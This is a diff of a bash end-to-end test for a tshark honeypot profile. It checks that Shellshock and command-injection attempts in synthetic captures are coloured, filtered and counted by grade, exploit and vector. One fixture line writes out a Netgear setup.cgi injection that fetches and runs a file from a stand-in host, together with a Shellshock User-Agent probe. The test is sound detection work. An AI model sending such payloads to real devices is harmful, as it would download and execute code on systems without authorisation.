@@ -1,11 +1,13 @@
 #!/bin/bash
-# e2e_profile.sh - the "Honeypot" profile and the statistics tree, with tshark:
-# installing keeps the user's changes, tshark -C Honeypot shows the
-# profile's columns, and -z shellshock,tree counts attempts by grade and CVE.
+# e2e_profile.sh - the "Honeypot" profile and the statistics trees, with
+# tshark: installing keeps the user's changes, tshark -C Honeypot shows the
+# profile's columns and paints with its colouring rules, -z shellshock,tree
+# counts Shellshock attempts by grade and CVE, and -z rce,tree command
+# injection attempts by grade and exploit.
 source "$(dirname "$0")/lib.sh"
 HS_SOURCE_DIR=${HS_SOURCE_DIR:?HS_SOURCE_DIR must point at the source tree}
 hs_setup
-hs_require_plugin shellshock login
+hs_require_plugin shellshock rce login
 
 install_profile() {
     bash "$HS_SOURCE_DIR/scripts/install-profile.sh" "$HS_SOURCE_DIR/profiles/Honeypot" "$1"
@@ -59,6 +61,85 @@ hs_eq "colouring rule: matches both bypasses" "$(hs_count telnet "${rule%@*}")" 
 button=$(awk -F'","' '$2 == "Login bypass" { print $3 }' "$P/dfilter_buttons")
 hs_eq "filter button: Login bypass" "$button" "login.bypass"
 hs_eq "filter button: matches both bypasses" "$(hs_count telnet "$button")" "2"
+
+# Command injection (rce, issue 14): the profile's rules, column and button
+# on the labelled requests of captures/rce.gcs, and on a request holding both
+# a green Shellshock probe and a red injection.
+hs_gencap rce <"$(dirname "$0")/captures/rce.gcs"
+printf '%s\n' 'time 1411603200' 'tcp 198.51.100.30:40010 192.0.2.80:80' \
+    'c "GET /setup.cgi?todo=syscmd&cmd=wget+http://198.51.100.9/x+-O+/tmp/x;sh+/tmp/x HTTP/1.1\r\nHost: 192.0.2.80\r\nUser-Agent: () { :;}; echo; echo vulnerable\r\n\r\n" @mixed' \
+    close | hs_gencap mixed
+# colour RULE-NAME: a rule's colours, "[fg][bg]".
+colour() { awk -F@ -v n="$1" '$2 == n { print $4 }' "$P/colorfilters"; }
+for g in "red (takes control)" "yellow (callback or unknown)" "green (probe)"; do
+    hs_eq "colouring rule: Command injection: $g, in the Shellshock rule's colours" \
+        "$(colour "Command injection: $g")" "$(colour "Shellshock: $g")"
+done
+# Wireshark paints a row with the first rule that matches: every red rule
+# (Shellshock, command injection, login bypass) comes before every yellow
+# one, and every yellow one before every green one, so a row shows the
+# highest grade of any family.
+hs_eq "colouring rules: the red ones, then the yellow, then the green" \
+    "$(awk -F@ -v r='[65535,41120,41120][0,0,0]' -v y='[65535,61680,32896][0,0,0]' \
+        -v g='[43690,62965,43690][0,0,0]' '
+        $4 == r && (seen_y || seen_g) { bad = 1 }
+        $4 == y { seen_y = 1; if (seen_g) bad = 1 }
+        $4 == g { seen_g = 1 }
+        END { print bad ? "no" : "yes" }' "$P/colorfilters")" yes
+# painted CAP LABEL: the colouring rule tshark -C Honeypot paints the frame with.
+painted() {
+    hs_tshark -C Honeypot --color -r "$HS_TMP/$1.pcap" -Y "frame.number == $(hs_frame "$1" "$2")" \
+        -T fields -e frame.coloring_rule.name 2>/dev/null
+}
+hs_eq "painted: Netgear injection red" "$(painted rce netgear)" "Command injection: red (takes control)"
+hs_eq "painted: Huawei injection red" "$(painted rce huawei)" "Command injection: red (takes control)"
+hs_eq "painted: header injection yellow" "$(painted rce header)" \
+    "Command injection: yellow (callback or unknown)"
+hs_eq "painted: clean request as plain HTTP" "$(painted rce clean)" "HTTP"
+hs_eq "painted: Shellshock stays Shellshock" "$(painted rce shellshock)" "Shellshock: red (takes control)"
+hs_eq "painted: green Shellshock probe beside a red injection: red" "$(painted mixed mixed)" \
+    "Command injection: red (takes control)"
+button=$(awk -F'","' '$2 == "RCE" { print $3 }' "$P/dfilter_buttons")
+hs_eq "filter button: RCE" "$button" "rce"
+hs_eq "filter button: matches the three injections" "$(hs_count rce "$button")" "3"
+line=$(hs_tshark -C Honeypot -r "$HS_TMP/rce.pcap" -Y "frame.number == $(hs_frame rce huawei)")
+hs_eq "tshark -C Honeypot: exploit column" "$(grep -cE 'HTTP +CVE-2017-17215 +[0-9]+ POST' <<<"$line")" "1"
+
+# item STATS BRANCH ITEM: an item's count in one branch of a statistics
+# tree's output (branches are indented by one space, items by two).
+item() {
+    awk -v b="$2" -v k="$3" '
+        /^ [^ ]/ { inb = substr($0, 2, length(b) + 2) == b "  "; next }
+        inb && /^  [^ ]/ && substr($0, 3, length(k) + 2) == k "  " {
+            split(substr($0, length(k) + 3), w, " "); print w[1]; exit }' <<<"$1"
+}
+# The command injection tree: attempts of rce.gcs by grade, exploit, vector.
+stats=$(hs_tshark -r "$HS_TMP/rce.pcap" -q -z rce,tree)
+hs_eq "rce stats: attempts = frames with an injection" \
+    "$(awk '/^Command injection attempts/ { print $4 }' <<<"$stats")" "$(hs_count rce rce)"
+for g in red yellow; do
+    hs_eq "rce stats: $g attempts" "$(item "$stats" "By grade" "$g")" \
+        "$(hs_count rce "rce.grade == $g && !(rce.grade > $g)")"
+done
+hs_eq "rce stats: 2 red, 1 yellow, no green" \
+    "$(item "$stats" "By grade" red),$(item "$stats" "By grade" yellow),$(item "$stats" "By grade" green)" "2,1,"
+hs_eq "rce stats: exploit netgear-setup.cgi" "$(item "$stats" "By exploit" netgear-setup.cgi)" 1
+hs_eq "rce stats: exploit CVE-2017-17215" "$(item "$stats" "By exploit" CVE-2017-17215)" 1
+hs_eq "rce stats: exploit unknown (the header injection)" "$(item "$stats" "By exploit" unknown)" 1
+for v in http.uri http.header http.body; do
+    hs_eq "rce stats: vector $v" "$(item "$stats" "By vector" "$v")" 1
+done
+hs_eq "rce stats: no CVE branch" "$(grep -c 'By CVE' <<<"$stats")" 0
+# Each family counts its own attempts: the Shellshock tree of rce.gcs holds
+# its Shellshock request only; the mixed request is green there, red here.
+ss=$(hs_tshark -r "$HS_TMP/rce.pcap" -q -z shellshock,tree)
+hs_eq "shellshock stats of rce.gcs: the Shellshock request only" \
+    "$(awk '/^Shellshock attempts/ { print $3 }' <<<"$ss")" 1
+ss=$(hs_tshark -r "$HS_TMP/mixed.pcap" -q -z shellshock,tree)
+stats=$(hs_tshark -r "$HS_TMP/mixed.pcap" -q -z rce,tree)
+hs_eq "mixed request: a green Shellshock attempt" "$(item "$ss" "By grade" green)" 1
+hs_eq "mixed request: a red injection attempt, with its exploit" \
+    "$(item "$stats" "By grade" red),$(item "$stats" "By exploit" netgear-setup.cgi)" "1,1"
 
 # The statistics tree: Shellshock attempts of the demo by grade and CVE.
 stats=$(hs_tshark -r "$HS_TMP/demo.pcap" -q -z shellshock,tree)
